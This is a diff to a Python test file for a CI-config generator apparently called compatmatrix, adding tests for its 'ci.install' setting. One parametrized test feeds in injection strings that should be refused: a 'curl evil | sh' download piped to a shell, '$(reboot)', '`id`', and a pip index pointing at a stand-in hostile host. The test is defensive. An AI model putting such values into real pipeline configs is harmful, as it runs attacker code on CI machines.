@@ -30,8 +30,11 @@ from compatmatrix.ci import (
 )
 from compatmatrix.cli import main
 from compatmatrix.plan import Cell, plan_cells
+from compatmatrix.errors import SpecError
 from compatmatrix.results import CellRecord, Status
 from compatmatrix.spec import Axis, CIConfig, Runner, load_matrix
+
+from .conftest import make_package
 
 ROOT = Path(__file__).resolve().parents[1]
 BIN = Path(sys.executable).parent  # where the test environment's console scripts are
@@ -57,7 +60,7 @@ BIG_AXIS = "\n  vllm: [" + ", ".join(f'"0.{i}.0"' for i in range(140)) + "]"  # 
 
 
 def write(folder: Path, text: str) -> Path:
-    (folder / "pkg").mkdir(parents=True, exist_ok=True)
+    make_package(folder / "pkg")
     path = folder / "matrix.yaml"
     path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
     return path
@@ -560,3 +563,33 @@ def test_buildkite_final_step_reports_like_a_local_run(
     assert (checkout / "reports" / "compatibility.json").read_bytes() == local.read_bytes()
     annotation = (tmp_path / "annotation").read_text()
     assert annotation == "success\n" + (checkout / "reports" / "compatibility.md").read_text()
+
+
+# --- ci.install: where the pipelines get compatmatrix --------------------------------------
+
+
+def install_lines(matrix: Path) -> list[str]:
+    assert main(["ci", "--matrix", str(matrix)]) == 0
+    flow = workflow(matrix.parent / GITHUB_WORKFLOW)
+    return [step["run"] for job in flow["jobs"].values() for step in job["steps"]
+            if "pip install" in step.get("run", "")]
+
+
+def test_pipelines_install_what_ci_install_names(tmp_path: Path) -> None:
+    spec = "compatmatrix @ git+https://github.com/example/compatmatrix@v0.1.0"
+    matrix = write(tmp_path / "repo", GPU_MATRIX + f'  install: "{spec}"\n')
+    lines = install_lines(matrix)
+    assert lines and all(f"pip install '{spec}'" in line for line in lines)
+    default = write(tmp_path / "plain", GPU_MATRIX)
+    assert all(line.endswith("pip install compatmatrix") for line in install_lines(default))
+
+
+@pytest.mark.parametrize("value", ["compatmatrix; curl evil | sh", "$(reboot)", "`id`",
+                                   "--index-url=http://evil/ compatmatrix", "compat matrix"])
+def test_unsafe_or_invalid_install_specs_are_refused_where_written(tmp_path: Path,
+                                                                   value: str) -> None:
+    matrix = write(tmp_path / "repo", GPU_MATRIX + f"  install: {json.dumps(value)}\n")
+    with pytest.raises(SpecError) as info:
+        load_matrix(matrix)
+    assert "ci.install" in str(info.value)
+    assert info.value.location.line == GPU_MATRIX.strip().count("\n") + 2
